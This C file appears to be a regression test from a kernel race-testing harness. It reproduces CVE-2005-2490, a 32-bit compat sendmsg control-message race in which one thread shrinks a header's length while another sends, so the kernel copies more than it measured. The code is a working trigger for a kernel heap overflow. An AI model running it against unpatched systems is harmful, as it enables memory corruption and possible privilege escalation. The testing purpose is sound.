// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * CVE-2005-2490: the kernel of 64 bits turns control messages of a 32-bit task into its own,
 * first measures them and then copies them. Side a sends one message of 240 bytes whose data are
 * twenty short headers; side b makes the first length that of a header alone. Then the copy is
 * of twenty messages, which take more room than was measured.
 */
#include <errno.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/uio.h>
#include <unistd.h>

#include "race.h"

#define HEADER	12		/* bytes of a 32-bit task's struct cmsghdr */
#define NR	20
#define ROOM	(NR * HEADER)

static int socks[2];
static unsigned int control_words[ROOM / sizeof(int)];

static void setup(void)
{
	if (sizeof(struct cmsghdr) != HEADER) {
		errno = ENOTSUP;
		race_die("a race of 32-bit tasks");
	}
	if (socketpair(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0, socks))
		race_die("socketpair");
}

static void prepare(void)
{
	char byte;

	while (recv(socks[1], &byte, 1, MSG_DONTWAIT) == 1)
		;
	for (int i = 0; i < NR; i++) {
		struct cmsghdr head = { .cmsg_len = HEADER, .cmsg_level = SOL_SOCKET,
					.cmsg_type = 0x7777 };

		memcpy((char *)control_words + i * HEADER, &head, HEADER);
	}
	control_words[0] = ROOM;
}

static void a(void)
{
	struct iovec data = { "x", 1 };
	struct msghdr message = {
		.msg_iov = &data, .msg_iovlen = 1,
		.msg_control = control_words, .msg_controllen = ROOM,
	};

	race_said.a = sendmsg(socks[0], &message, MSG_DONTWAIT) < 0 ? errno : 0;
}

static void b(void)
{
	*(volatile unsigned int *)control_words = HEADER;
}

RACE(.setup = setup, .prepare = prepare, .a = a, .b = b);
